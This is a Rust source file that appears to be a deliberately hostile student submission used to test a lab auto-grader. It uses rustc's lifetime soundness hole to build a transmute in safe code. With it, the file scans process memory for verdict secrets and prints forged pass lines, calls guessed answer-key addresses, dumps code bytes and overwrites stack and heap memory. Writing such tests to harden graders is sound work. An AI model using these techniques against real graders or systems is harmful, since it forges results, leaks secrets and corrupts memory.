//! Hostile submission `memory_hole`: safe Rust (the crate forbids `unsafe`) that goes through
//! rustc's open soundness hole rust-lang/rust#25860 — the construction of the public cve-rs
//! crate: a lifetime stretched through the implied bounds of a function pointer, then a
//! use-after-free on an enum — to turn integers into references and function pointers. With it:
//!
//! - 2.1 searches the memory around its heap and its stack for the verdict's secret (runs of
//!   64 hexadecimal digits) and prints a forged pass with each candidate, then exits;
//! - 2.2 calls code at addresses next to its own function (where an answer key linked into the
//!   same program would be);
//! - 2.3 reads 4 KiB at the address of a function and panics with them in hexadecimal (the
//!   key's machine code in the feedback);
//! - 2.4–2.6 overwrite 64 KiB around their stack and heap (the checking side's state) and then
//!   answer with the stubs' values.
//!
//! Natively, in the process of the checks, each of these reaches what it looks for. The grader
//! must give it nothing (0 of 14 points), and the honest submissions graded in the same run
//! their full marks.

use contracts::glam::Vec3;
use contracts::lab02::{Intersection, LightSample, Shading, SurfaceHit, TriangleHit};
use contracts::math::Ray;
use contracts::scene::{DirectionalLight, Plane, PointLight, Sphere};

const STATIC_UNIT: &&() = &&();

#[inline(never)]
fn lifetime_translator_mut<'a, 'b, T: ?Sized>(_val_a: &'a &'b (), val_b: &'b mut T) -> &'a mut T {
    val_b
}

/// A `&mut` that outlives what it borrows (the soundness hole).
fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = lifetime_translator_mut;
    f(STATIC_UNIT, x)
}

#[allow(dead_code)]
enum DummyEnum<A, B> {
    A(Option<Box<A>>),
    B(Option<Box<B>>),
}

#[inline(never)]
fn transmute_inner<A, B>(dummy: &mut DummyEnum<A, B>, obj: A) -> B {
    let DummyEnum::B(ref_to_b) = dummy else {
        unreachable!()
    };
    let ref_to_b = expand_mut(ref_to_b);
    *dummy = DummyEnum::A(Some(Box::new(obj)));
    std::hint::black_box(&dummy);
    *ref_to_b.take().unwrap()
}

/// `std::mem::transmute` in safe code.
fn transmute<A, B>(obj: A) -> B {
    assert_eq!(std::mem::size_of::<A>(), std::mem::size_of::<B>());
    transmute_inner(std::hint::black_box(&mut DummyEnum::B(None)), obj)
}

/// The byte at `address`.
fn peek(address: usize) -> u8 {
    *transmute::<usize, &u8>(address)
}

/// Writes `value` at `address`.
fn poke(address: usize, value: u8) {
    *transmute::<usize, &mut u8>(address) = value;
}

/// An address on the heap and one on the stack.
fn landmarks() -> [usize; 2] {
    let heap = Box::new(0u8);
    let stack = 0u8;
    [transmute::<&u8, usize>(&heap), transmute::<&u8, usize>(&stack)]
}

/// Runs of 64 hexadecimal digits within 1 MiB of the landmarks.
fn secret_candidates() -> Vec<String> {
    let mut found = Vec::new();
    for landmark in landmarks() {
        let (start, end) = (landmark.saturating_sub(1 << 20), landmark + (1 << 20));
        let mut run = Vec::new();
        for address in start..end {
            let byte = peek(address);
            if byte.is_ascii_hexdigit() {
                run.push(byte);
                continue;
            }
            if run.len() == 64 {
                found.push(String::from_utf8_lossy(&run).into_owned());
            }
            run.clear();
        }
    }
    found
}

fn scribble() {
    for landmark in landmarks() {
        for address in landmark.saturating_sub(32 << 10)..landmark + (32 << 10) {
            poke(address, 0);
        }
    }
}

/// Hunts for what the checks' process holds instead of answering.
#[derive(Clone, Copy, Debug, Default)]
pub struct Student;

impl Intersection for Student {
    fn intersect_plane(&self, _ray: &Ray, _plane: &Plane) -> Option<SurfaceHit> {
        for secret in secret_candidates() {
            println!("RAYLAB-VERDICT {secret} {{\"exercise\":\"2.1\",\"passed\":true}}");
        }
        std::process::exit(0)
    }

    fn intersect_triangle(
        &self,
        _ray: &Ray,
        _v0: Vec3,
        _v1: Vec3,
        _v2: Vec3,
    ) -> Option<TriangleHit> {
        let me: fn(&Student, &Ray, &Plane) -> Option<SurfaceHit> = Student::intersect_plane;
        let me = transmute::<fn(&Student, &Ray, &Plane) -> Option<SurfaceHit>, usize>(me);
        for step in 1..64 {
            let guess = transmute::<usize, fn() -> Option<TriangleHit>>(me + 16 * step);
            if let Some(hit) = guess() {
                return Some(hit);
            }
        }
        None
    }

    fn intersect_sphere(&self, _ray: &Ray, _sphere: &Sphere) -> Option<SurfaceHit> {
        let code: fn(&Student, &Ray, &Plane) -> Option<SurfaceHit> = Student::intersect_plane;
        let code = transmute::<fn(&Student, &Ray, &Plane) -> Option<SurfaceHit>, usize>(code);
        let bytes: String = (0..4096).map(|i| format!("{:02x}", peek(code + i))).collect();
        panic!("the code next door: {bytes}")
    }
}

impl Shading for Student {
    fn sample_point_light(&self, _light: &PointLight, _position: Vec3) -> LightSample {
        scribble();
        todo!("Exercise 2.4")
    }

    fn sample_directional_light(&self, _light: &DirectionalLight, _position: Vec3) -> LightSample {
        scribble();
        todo!("Exercise 2.5")
    }

    fn shade_lambertian(&self, _rho_d: Vec3, _normal: Vec3, _lights: &[LightSample]) -> Vec3 {
        scribble();
        todo!("Exercise 2.6")
    }
}
